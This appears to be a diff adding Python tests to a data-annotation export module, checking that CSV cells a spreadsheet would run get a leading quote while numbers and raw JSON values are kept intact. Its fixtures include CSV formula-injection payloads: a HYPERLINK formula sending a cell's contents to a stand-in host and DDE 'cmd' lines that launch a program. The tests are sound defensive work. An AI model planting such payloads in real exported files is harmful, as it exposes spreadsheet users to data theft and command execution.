@@ -39,3 +39,40 @@ def test_csv_reads_back_every_region_of_every_annotation(
                [(a["annotator"], a["kind"], a["model"], a["model_version"]) for a in want["annotations"]]
         for ga, wa in zip(got["annotations"], want["annotations"], strict=True):
             assert ga["regions"] == wa["regions"]
+
+
+HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+                 "\tTAB", "\rCR", "'=quoted already", "-12", "+3.5", "-1e3", "plain", "it's = fine"]
+
+
+def _hostile_records() -> list[dict[str, Any]]:
+    regions = [{"id": f"w{i}", "track": "words", "start_ms": i * 100, "end_ms": i * 100 + 50, "text": text}
+               for i, text in enumerate(HOSTILE_TEXTS)]
+    regions.append({"id": "@s1", "track": "speech", "label": "=1+1", "start_ms": -12, "end_ms": 40, "score": -0.5})
+    return [{"item_id": 1, "external_id": "=cmd|' /C calc'!A0",
+             "annotations": [{"annotator": "-ann", "kind": "human", "model": None, "model_version": None,
+                              "regions": regions}]}]
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote_and_numbers_stay_numbers(
+        schema: dict[str, Any], export: Callable[..., bytes]) -> None:
+    rows = list(csv.DictReader(io.StringIO(export("csv", schema, _hostile_records()).decode(), newline="")))
+    assert [row["text"] for row in rows[:-1]] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)",
+        "'\tTAB", "'\rCR", "''=quoted already", "-12", "+3.5", "-1e3", "plain", "it's = fine"]
+    last = rows[-1]
+    assert (last["external_id"], last["annotator"], last["region_id"], last["label"]) == (
+        "'=cmd|' /C calc'!A0", "'-ann", "'@s1", "'=1+1")
+    assert (last["start_ms"], last["end_ms"], last["score"]) == ("-12", "40", "-0.5")
+
+
+def test_csv_reads_back_the_raw_values_and_json_formats_keep_them_raw(
+        schema: dict[str, Any], export: Callable[..., bytes], read_back: Callable[..., list[dict[str, Any]]]) -> None:
+    records = _hostile_records()
+    (back,) = read_back("csv", export("csv", schema, records), schema)
+    assert back["external_id"] == "=cmd|' /C calc'!A0"
+    assert back["annotations"][0]["annotator"] == "-ann"
+    assert back["annotations"][0]["regions"] == records[0]["annotations"][0]["regions"]
+    line = json.loads(export("jsonl", schema, records).decode().splitlines()[0])
+    assert line["external_id"] == "=cmd|' /C calc'!A0"
+    assert [r.get("text") for r in line["annotations"][0]["regions"]][:len(HOSTILE_TEXTS)] == HOSTILE_TEXTS
